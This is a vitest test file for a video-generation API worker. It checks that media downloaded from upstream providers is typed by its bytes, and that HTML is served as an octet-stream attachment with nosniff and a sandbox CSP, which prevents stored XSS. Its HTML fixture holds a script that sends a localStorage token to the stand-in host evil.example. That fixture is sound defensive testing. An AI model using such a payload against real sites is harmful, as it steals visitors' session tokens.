/**
 * Media served from our origin carry only the type we expect for the variant — `video/mp4`,
 * `image/webp`, `image/jpeg` — and only when the bytes are that (or, for a range that cannot be
 * sniffed, when the upstream says so); anything else is an `application/octet-stream`
 * attachment. Every answer has `nosniff` and a sandboxing CSP. This origin serves the demo page
 * and holds visitor tokens, so an upstream's `text/html` served inline here would be stored XSS.
 *
 * Driven through the whole worker, with an OpenAI-compatible relay (the contract fake) answering
 * the download, and with the simulator's own files.
 */
import { describe, expect, it } from "vitest";
import { deployment, PROVIDERS, SECRETS } from "../../helpers/deployment";
import { FakeOpenAI, type FakeAsset } from "../../helpers/fakes/openai";
import { RUNWAY_CDN } from "../../helpers/fakes/runway";
import { harness, SIM_ROUTE, type Harness } from "../../helpers/harness";
import { createForm, post } from "../../helpers/requests";
import { RELAY_PROVIDER } from "../../fixtures/routes";
import { simulatorMedia } from "../../../worker/providers/simulator/media";

const CSP = "default-src 'none'; sandbox";
const RELAY_KEY = "sk-test-relay-media-type-0123456789abcdef";
const RELAY_ROUTE = {
  ...SIM_ROUTE,
  id: "relay",
  provider: RELAY_PROVIDER,
  upstream_model: "sora-2",
};

const text = (s: string) => new TextEncoder().encode(s);
const HTML = text(
  "<!doctype html><script>fetch('//evil.example/'+localStorage.getItem('token'))</script>",
);
const MP4 = new Uint8Array(simulatorMedia("1280x720", "4", "video")!.bytes);
const WEBP = new Uint8Array(simulatorMedia("1280x720", "4", "thumbnail")!.bytes);
const JPEG = new Uint8Array(simulatorMedia("1280x720", "4", "spritesheet")!.bytes);

type Variant = "video" | "thumbnail" | "spritesheet";

/** A finished relay video whose download the fake answers with `media`. */
async function relayVideo(media: Partial<Record<Variant, FakeAsset>>) {
  const fake = new FakeOpenAI({ apiKey: RELAY_KEY, pollsToComplete: 3, media });
  const h = harness({ routes: [RELAY_ROUTE], fetch: fake.fetch, vars: { RELAY_KEY } });
  const id = await completedVideo(h, (path, init) => h.server(path, init), "relay");
  return { h, fake, id };
}

async function completedVideo(
  h: Harness,
  call: (path: string, init?: RequestInit) => Promise<Response>,
  model: string,
  seconds = "4",
): Promise<string> {
  const created = await call("/v1/videos", post(createForm({ model, seconds })));
  expect(created.status).toBe(200);
  const { id } = (await created.json()) as { id: string };
  let status = "queued";
  for (let i = 0; i < 15 && status !== "completed"; i++) {
    h.advance(2500);
    status = ((await (await call(`/v1/videos/${id}`)).json()) as { status: string }).status;
  }
  expect(status).toBe("completed");
  return id;
}

const bytesOf = async (response: Response) => new Uint8Array(await response.arrayBuffer());

/** The served-as-a-download shape: no renderable type, attachment, nosniff, sandbox. */
function expectAttachment(response: Response, filename: string) {
  expect(response.headers.get("content-type")).toBe("application/octet-stream");
  expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${filename}"`);
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  expect(response.headers.get("content-security-policy")).toBe(CSP);
}

function expectInline(response: Response, type: string, filename: string) {
  expect(response.headers.get("content-type")).toBe(type);
  expect(response.headers.get("content-disposition")).toBe(`inline; filename="${filename}"`);
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  expect(response.headers.get("content-security-policy")).toBe(CSP);
}

describe("a relay's download on GET /v1/videos/{id}/content", () => {
  it("serves HTML labelled text/html as an octet-stream attachment, bytes unchanged", async () => {
    const { h, fake, id } = await relayVideo({ video: { bytes: HTML, type: "text/html" } });
    const response = await h.server(`/v1/videos/${id}/content`);
    expect(response.status).toBe(200);
    expectAttachment(response, `${id}.mp4`);
    expect(response.headers.get("cross-origin-resource-policy")).toBe("cross-origin");
    expect(await bytesOf(response)).toEqual(HTML);
    fake.assertClean();
  });

  it("serves HTML labelled video/mp4 as an attachment: the bytes decide, not the label", async () => {
    const { h, id } = await relayVideo({ video: { bytes: HTML, type: "video/mp4" } });
    const response = await h.server(`/v1/videos/${id}/content`);
    expectAttachment(response, `${id}.mp4`);
    await response.arrayBuffer();
  });

  it.each(["text/html", "application/octet-stream"])(
    "serves a real MP4 labelled %s inline as video/mp4",
    async (label) => {
      const { h, id } = await relayVideo({ video: { bytes: MP4, type: label } });
      const response = await h.server(`/v1/videos/${id}/content`);
      expect(response.status).toBe(200);
      expectInline(response, "video/mp4", `${id}.mp4`);
      expect(response.headers.get("content-length")).toBe(String(MP4.length));
      expect(await bytesOf(response)).toEqual(MP4);
    },
  );

  it("serves a WebP thumbnail and a JPEG spritesheet as their types, whatever the label", async () => {
    const { h, id } = await relayVideo({
      thumbnail: { bytes: WEBP, type: "text/html" },
      spritesheet: { bytes: JPEG, type: "image/svg+xml" },
    });
    const thumb = await h.server(`/v1/videos/${id}/content?variant=thumbnail`);
    expectInline(thumb, "image/webp", `${id}.webp`);
    expect(await bytesOf(thumb)).toEqual(WEBP);
    const sprite = await h.server(`/v1/videos/${id}/content?variant=spritesheet`);
    expectInline(sprite, "image/jpeg", `${id}.jpg`);
    expect(await bytesOf(sprite)).toEqual(JPEG);
  });

  it("does not serve one variant's bytes as another's type", async () => {
    const { h, id } = await relayVideo({ thumbnail: { bytes: JPEG, type: "image/webp" } });
    const response = await h.server(`/v1/videos/${id}/content?variant=thumbnail`);
    expectAttachment(response, `${id}.webp`);
    await response.arrayBuffer();
  });

  it("keeps a mid-file range's declared type when it is the expected one", async () => {
    const { h, id } = await relayVideo({
      video: { bytes: MP4, type: "Video/MP4; codecs=avc1" },
    });
    const response = await h.server(`/v1/videos/${id}/content`, {
      headers: { range: "bytes=100-199" },
    });
    expect(response.status).toBe(206);
    expect(response.headers.get("content-range")).toBe(`bytes 100-199/${MP4.length}`);
    expectInline(response, "video/mp4", `${id}.mp4`);
    expect(await bytesOf(response)).toEqual(MP4.slice(100, 200));
  });

  it("sends a mid-file range declared as anything else as an attachment", async () => {
    const { h, id } = await relayVideo({ video: { bytes: MP4, type: "text/html" } });
    const response = await h.server(`/v1/videos/${id}/content`, {
      headers: { range: "bytes=100-199" },
    });
    expect(response.status).toBe(206);
    expect(response.headers.get("content-range")).toBe(`bytes 100-199/${MP4.length}`);
    expectAttachment(response, `${id}.mp4`);
    expect(await bytesOf(response)).toEqual(MP4.slice(100, 200));
  });

  it("sniffs a range from byte 0 like a whole file", async () => {
    const { h, id } = await relayVideo({ video: { bytes: HTML, type: "video/mp4" } });
    const response = await h.server(`/v1/videos/${id}/content`, {
      headers: { range: "bytes=0-40" },
    });
    expect(response.status).toBe(206);
    expectAttachment(response, `${id}.mp4`);
    expect(await bytesOf(response)).toEqual(HTML.slice(0, 41));
  });

  it("lets the declared type decide a probe too short to sniff (Safari's bytes=0-1)", async () => {
    const { h, id } = await relayVideo({ video: { bytes: MP4, type: "video/mp4" } });
    const probe = await h.server(`/v1/videos/${id}/content`, { headers: { range: "bytes=0-1" } });
    expect(probe.status).toBe(206);
    expectInline(probe, "video/mp4", `${id}.mp4`);
    expect(await bytesOf(probe)).toEqual(MP4.slice(0, 2));
  });

  it("answers a 416 with no body and no upstream type, keeping Content-Range", async () => {
    const { h, id } = await relayVideo({ video: { bytes: HTML, type: "text/html" } });
    const response = await h.server(`/v1/videos/${id}/content`, {
      headers: { range: `bytes=${HTML.length}-` },
    });
    expect(response.status).toBe(416);
    expect(response.headers.get("content-range")).toBe(`bytes */${HTML.length}`);
    expect(response.headers.get("content-type")).toBeNull();
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("content-security-policy")).toBe(CSP);
    expect(response.body).toBeNull();
  });

  it("streams a large MP4 with an unhelpful label: typed from its first chunk, never buffered", async () => {
    const chunk = 64 * 1024;
    const total = 128; // 8 MiB
    let pulled = 0;
    const fake = new FakeOpenAI({ apiKey: RELAY_KEY, pollsToComplete: 3 });
    const h = harness({ routes: [RELAY_ROUTE], fetch: fake.fetch, vars: { RELAY_KEY } });
    const id = await completedVideo(h, (path, init) => h.server(path, init), "relay");
    fake.script({
      method: "GET",
      path: /\/content$/,
      respond: () =>
        new Response(
          new ReadableStream<Uint8Array>({
            pull(controller) {
              if (pulled === total) return controller.close();
              controller.enqueue(pulled === 0 ? MP4.slice(0, chunk) : new Uint8Array(chunk));
              pulled++;
            },
          }),
          {
            headers: {
              "content-type": "application/octet-stream",
              "content-length": String(chunk * total),
            },
          },
        ),
    });
    const response = await h.server(`/v1/videos/${id}/content`);
    expect(response.status).toBe(200);
    expectInline(response, "video/mp4", `${id}.mp4`);
    expect(response.headers.get("content-length")).toBe(String(chunk * total));
    expect(response.body).toBeInstanceOf(ReadableStream);
    const reader = response.body!.getReader();
    const first = await reader.read();
    expect(first.value!.slice(0, 16)).toEqual(MP4.slice(0, 16));
    expect(pulled).toBeLessThan(8);
    await reader.cancel();
  });
});

describe("the simulator's own media", () => {
  async function simulated() {
    const h = harness();
    const created = await h.server("/v1/videos", post(createForm()));
    const { id } = (await created.json()) as { id: string };
    h.advance(10_000);
    return { h, id };
  }

  it.each([
    ["video", "video/mp4", "mp4", MP4],
    ["thumbnail", "image/webp", "webp", WEBP],
    ["spritesheet", "image/jpeg", "jpg", JPEG],
  ] as const)(
    "serves the %s inline as %s with nosniff and CSP",
    async (variant, type, ext, bytes) => {
      const { h, id } = await simulated();
      const response = await h.server(`/v1/videos/${id}/content?variant=${variant}`);
      expect(response.status).toBe(200);
      expectInline(response, type, `${id}.${ext}`);
      expect(await bytesOf(response)).toEqual(bytes);
    },
  );

  it("serves ranges of the video as video/mp4, from byte 0, mid-file and as a 2-byte probe", async () => {
    const { h, id } = await simulated();
    for (const range of ["bytes=0-1023", "bytes=1000-1999", "bytes=0-1"]) {
      const response = await h.server(`/v1/videos/${id}/content`, { headers: { range } });
      expect(response.status, range).toBe(206);
      expectInline(response, "video/mp4", `${id}.mp4`);
      await response.arrayBuffer();
    }
  });
});

/** Each provider route's media download, told apart from its API calls. */
const IS_MEDIA: Record<string, (url: URL) => boolean> = {
  relay: (url) => url.pathname.endsWith("/content"),
  azure: (url) => url.pathname.endsWith("/content"),
  "kling-fal": (url) => url.hostname === "v3.fal.media",
  veo: (url) => url.pathname.endsWith(":download"),
  runway: (url) => url.hostname === RUNWAY_CDN,
  "veo-replicate": (url) => url.hostname === "replicate.delivery",
  "veo-openrouter": (url) => url.pathname.endsWith("/content"),
};

describe.each(PROVIDERS)("every provider route: $model", ({ model, seconds }) => {
  /** A deployment whose media host answers `answer` once the video is finished. */
  async function answering(answer: () => Response) {
    let armed = false;
    let answered = 0;
    const d = deployment({
      intercept: (request) => {
        if (!armed || !IS_MEDIA[model]!(new URL(request.url))) return null;
        answered++;
        return answer();
      },
    });
    const call = (path: string, init?: RequestInit) =>
      d.h.as(SECRETS.SERVER_KEY_BACKEND, path, init);
    const id = await completedVideo(d.h, call, model, seconds);
    armed = true;
    const response = await call(`/v1/videos/${id}/content`);
    // The download really came from our answer, not from the route's contract fake.
    expect(answered).toBe(1);
    return { id, response };
  }

  it("serves an upstream's text/html download as an octet-stream attachment", async () => {
    const { id, response } = await answering(
      () => new Response(HTML, { headers: { "content-type": "text/html; charset=utf-8" } }),
    );
    expect(response.status).toBe(200);
    expectAttachment(response, `${id}.mp4`);
    await response.arrayBuffer();
  });

  it("serves a real MP4 labelled text/html as video/mp4 inline", async () => {
    const { id, response } = await answering(
      () => new Response(MP4, { headers: { "content-type": "text/html" } }),
    );
    expect(response.status).toBe(200);
    expectInline(response, "video/mp4", `${id}.mp4`);
    expect(await bytesOf(response)).toEqual(MP4);
  });
});
